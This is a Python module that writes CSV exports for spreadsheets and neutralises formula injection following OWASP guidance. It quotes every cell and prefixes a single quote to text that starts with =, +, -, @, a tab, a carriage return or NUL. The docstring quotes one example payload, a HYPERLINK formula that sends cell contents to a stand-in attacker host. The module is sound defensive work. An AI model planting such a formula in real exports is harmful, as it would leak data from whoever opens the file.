"""CSV written for people's spreadsheets, every text cell neutralised against formula injection (OWASP).

A spreadsheet (Excel, LibreOffice, Google Sheets) runs a cell that opens with `=`, `+`, `-` or `@` as a
formula, and also one that opens with a tab or a carriage return before such a character, so text taken
from a parent or an import (`=HYPERLINK("https://evil.example/?"&A1)`) would run on the machine of the
agent who opens the export. Such text is stored as given; it is neutralised only where it leaves for a
spreadsheet, here, as OWASP's CSV-injection guidance says: every cell is quoted (quotes inside doubled,
RFC 4180), and a text cell that opens with one of those characters (or NUL, per ASVS) gets a leading
single quote, which spreadsheets show as text and do not evaluate.

Every CSV this project writes goes through `write` or `text`: numbers passed as int or Decimal are
written as they are (a negative amount stays a number); strings are always text, and neutralised.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from decimal import Decimal
from typing import IO

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\0")
DELIMITER = ";"  # what French office software expects (and what the importer reads)


def neutralise(text: str) -> str:
    """Text a spreadsheet will show and never evaluate: a leading single quote if it opens as a formula."""
    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text


def cell(value: object) -> str:
    """One value as a CSV cell: None is empty, numbers as written, everything else as neutralised text."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "oui" if value else "non"
    if isinstance(value, int | Decimal):
        return str(value)
    return neutralise(str(value))


def write(stream: IO[str], header: Sequence[str], rows: Iterable[Sequence[object]]) -> int:
    """Writes a header and rows (every cell quoted and neutralised); returns the number of rows."""
    writer = csv.writer(stream, delimiter=DELIMITER, quoting=csv.QUOTE_ALL, lineterminator="\r\n")
    writer.writerow([cell(h) for h in header])
    count = 0
    for row in rows:
        writer.writerow([cell(v) for v in row])
        count += 1
    return count


def text(header: Sequence[str], rows: Iterable[Sequence[object]]) -> str:
    """The whole CSV as text; encode it as "utf-8-sig" (with a BOM) for Excel to read it as UTF-8."""
    out = io.StringIO()
    write(out, header, rows)
    return out.getvalue()
